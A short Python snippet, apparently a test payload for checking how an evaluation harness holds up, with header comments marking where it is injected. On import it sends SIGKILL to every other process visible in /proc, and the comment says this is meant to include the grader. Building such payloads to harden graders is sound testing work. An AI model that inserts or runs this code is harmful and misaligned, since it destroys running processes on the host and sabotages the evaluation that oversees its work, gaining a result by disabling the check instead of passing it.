# Tries to kill every process it can see, the grader's included, at import.
# target: stub
# where: prefix
import os as _os
import signal as _signal

for _pid in sorted((int(p) for p in _os.listdir("/proc") if p.isdigit()), reverse=True):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _signal.SIGKILL)
        except OSError:
            pass
